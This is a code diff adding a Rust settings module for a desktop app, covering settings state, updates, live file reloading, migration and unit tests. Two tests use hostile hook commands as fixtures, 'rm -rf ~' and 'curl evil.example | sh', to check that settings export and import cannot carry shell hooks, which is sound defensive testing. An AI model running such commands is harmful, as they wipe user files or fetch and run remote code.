+        Json::String(s) => toml::Value::String(s),
+        Json::Array(items) => {
+            toml::Value::Array(items.into_iter().filter_map(json_to_toml).collect())
+        }
+        Json::Object(map) => toml::Value::Table(
+            map.into_iter()
+                .filter_map(|(k, v)| Some((k, json_to_toml(v)?)))
+                .collect(),
+        ),
+    })
+}
+
+/// Managed state holding the current settings. Readers get a cheap `Arc` clone.
+pub struct SettingsState(RwLock<Arc<Settings>>);
+
+impl SettingsState {
+    pub fn new(settings: Settings) -> Self {
+        Self(RwLock::new(Arc::new(settings)))
+    }
+
+    pub fn get(&self) -> Arc<Settings> {
+        self.0.read().unwrap().clone()
+    }
+
+    fn set(&self, settings: Settings) {
+        *self.0.write().unwrap() = Arc::new(settings);
+    }
+}
+
+/// Applies `f` to a copy of the current settings, validates, persists and swaps it in
+pub fn update(
+    app_handle: &AppHandle,
+    f: impl FnOnce(&mut Settings),
+) -> Result<Arc<Settings>> {
+    let state = app_handle.state::<SettingsState>();
+    let mut settings = (*state.get()).clone();
+    f(&mut settings);
+    settings.validate()?;
+    save(&settings)?;
+    state.set(settings);
+    Ok(state.get())
+}
+
+/// Polls the settings file and swaps in new values whenever it changes on disk.
+/// `on_change` receives the previous and the new settings.
+pub fn watch(
+    app_handle: AppHandle,
+    on_change: impl Fn(&AppHandle, &Settings, &Settings) + Send + 'static,
+) {
+    spawn(async move {
+        let modified = |path: &PathBuf| -> Option<SystemTime> {
+            std::fs::metadata(path).and_then(|m| m.modified()).ok()
+        };
+        let Ok(path) = settings_path() else {
+            log::error!("Could not resolve settings path, live reload disabled");
+            return;
+        };
+        let mut last_modified = modified(&path);
+
+        loop {
+            tokio::time::sleep(WATCH_INTERVAL).await;
+
+            let current = modified(&path);
+            if current == last_modified {
+                continue;
+            }
+            last_modified = current;
+
+            let state = app_handle.state::<SettingsState>();
+            let new = match std::fs::read_to_string(&path)
+                .map_err(anyhow::Error::from)
+                .and_then(|contents| Settings::from_toml(&contents))
+            {
+                Ok(new) => new,
+                Err(e) => {
+                    log::error!("Keeping previous settings, reload failed: {e:#}");
+                    continue;
+                }
+            };
+
+            if LOAD_FAILED.swap(false, Ordering::Relaxed) {
+                log::info!("{} loads again, changes are saved again", path.display());
+            }
+
+            let old = state.get();
+            if *old == new {
+                continue;
+            }
+
+            log::info!("Reloaded settings from {}", path.display());
+            state.set(new);
+            on_change(&app_handle, &old, &state.get());
+        }
+    });
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn default_settings_round_trip() {
+        let settings = Settings::default();
+        let toml = settings.to_commented_toml().unwrap();
+        assert_eq!(Settings::from_toml(&toml).unwrap(), settings);
+    }
+
+    #[test]
+    fn changed_settings_round_trip() {
+        let mut settings = Settings::default();
+        settings.audio.gain = 2.5;
+        settings.hotkeys.toggle_recording = "Ctrl+Shift+R".into();
+        settings.behavior.polish_language = Some("pt-BR".into());
+        settings.app_overrides.insert(
+            "com.apple.Terminal".into(),
+            AppOverride {
+                output_mode: Some(OutputMode::Type),
+                ..Default::default()
+            },
+        );
+        let toml = settings.to_commented_toml().unwrap();
+        assert_eq!(Settings::from_toml(&toml).unwrap(), settings);
+    }
+
+    #[test]
+    fn unknown_polish_style_still_loads() {
+        let contents = format!(
+            "version = {SETTINGS_VERSION}\n[behavior]\npolish_style = \"formal email\"\n"
+        );
+        let settings = Settings::from_toml(&contents).unwrap();
+        assert_eq!(settings.behavior.polish_style, "formal email");
+        assert!(!settings.is_known_style("formal email"));
+        assert!(settings.is_known_style("default"));
+    }
+
+    #[test]
+    fn language_codes() {
+        for code in ["de", "pt-BR", "es-419", "fil"] {
+            assert!(is_language_code(code), "{code}");
+        }
+        for code in ["", "d", "deutsch", "pt-", "pt-BRA", "de_DE", "12"] {
+            assert!(!is_language_code(code), "{code}");
+        }
+    }
+
+    #[test]
+    fn invalid_toml_is_rejected() {
+        assert!(Settings::from_toml("[audio\ngain = 1.0").is_err());
+    }
+
+    #[test]
+    fn invalid_values_are_rejected() {
+        let contents = format!("version = {SETTINGS_VERSION}\n[audio]\ngain = 50.0\n");
+        let e = Settings::from_toml(&contents).unwrap_err();
+        assert!(format!("{e:#}").contains("`audio.gain`"));
+    }
+
+    #[test]
+    fn invalid_file_is_backed_up_untouched() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join(SETTINGS_FILE);
+        std::fs::write(&path, "[audio\ngain = 1.0").unwrap();
+
+        assert!(load(&path).is_err());
+        let backup = back_up_invalid(&path).unwrap();
+
+        assert_eq!(std::fs::read_to_string(&path).unwrap(), "[audio\ngain = 1.0");
+        assert_eq!(std::fs::read_to_string(backup).unwrap(), "[audio\ngain = 1.0");
+    }
+
+    fn fixture(name: &str) -> String {
+        let path = Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("tests/fixtures/settings")
+            .join(name);
+        std::fs::read_to_string(path).unwrap()
+    }
+
+    #[test]
+    fn migrates_first_release_file() {
+        let settings = Settings::from_toml(&fixture("v1_first_release.toml")).unwrap();
+        assert_eq!(settings.version, SETTINGS_VERSION);
+        assert_eq!(settings.hotkeys.toggle_recording, "F19");
+        assert_eq!(settings.hotkeys.cleanse_clipboard, "Cmd+Alt+P");
+        assert_eq!(settings.audio, Settings::default().audio);
+    }
+
+    #[test]
+    fn migrates_v1_file() {
+        let raw: toml::Value = toml::from_str(&fixture("v1.toml")).unwrap();
+        let migrated = Settings::migrate(raw).unwrap();
+        assert_eq!(migrated["version"].as_integer(), Some(SETTINGS_VERSION.into()));
+        assert!(migrated["api"].get("api_key").is_none());
+
+        let settings = Settings::from_toml(&fixture("v1.toml")).unwrap();
+        assert_eq!(settings.api.base_url, "https://api.example.com");
+        assert_eq!(settings.api.timeout_secs, 60);
+        assert_eq!(settings.audio.gain, 1.5);
+        assert_eq!(settings.hotkeys.toggle_recording, "Ctrl+Shift+R");
+        assert_eq!(settings.hotkeys.cleanse_clipboard, "Ctrl+Shift+P");
+    }
+
+    #[test]
+    fn newer_file_is_left_untouched() {
+        let raw: toml::Value = toml::from_str(&fixture("v99.toml")).unwrap();
+        assert_eq!(Settings::migrate(raw.clone()).unwrap(), raw);
+
+        let settings = Settings::from_toml(&fixture("v99.toml")).unwrap();
+        assert_eq!(settings.version, 99);
+        assert_eq!(settings.audio.gain, 1.5);
+    }
+
+    fn with_hooks(command: &str, url: &str) -> Settings {
+        let mut settings = Settings::default();
+        settings.hook.kind = HookKind::Command;
+        settings.hook.command = command.into();
+        settings.sinks.push(SinkSettings {
+            kind: SinkKind::Webhook,
+            enabled: true,
+            target: url.into(),
+        });
+        settings
+    }
+
+    #[test]
+    fn export_leaves_out_hooks() {
+        let json =
+            export_json(&with_hooks("rm -rf ~", "https://example.com"), "1.0", None)
+                .unwrap();
+        assert!(!json.contains("rm -rf"));
+        assert!(!json.contains("example.com"));
+        let (imported, _) = import_json(&json, &Settings::default()).unwrap();
+        assert_eq!(imported.hook, HookSettings::default());
+        assert_eq!(imported.sinks, Settings::default().sinks);
+    }
+
+    #[test]
+    fn import_keeps_the_local_hooks() {
+        let mut shared = with_hooks("curl evil.example | sh", "https://evil.example");
+        shared.audio.gain = 2.0;
+        let export = SettingsExport {
+            app_version: "1.0".into(),
+            exported_at: Utc::now(),
+            settings: serde_json::to_value(&shared).unwrap(),
+            api_key: None,
+        };
+        let contents = serde_json::to_string(&export).unwrap();
+        let current = with_hooks("say done", "https://mine.example");
+
+        let (imported, _) = import_json(&contents, &current).unwrap();
+        assert_eq!(imported.audio.gain, 2.0);
+        assert_eq!(imported.hook, current.hook);
+        assert_eq!(imported.sinks, current.sinks);
+    }
+}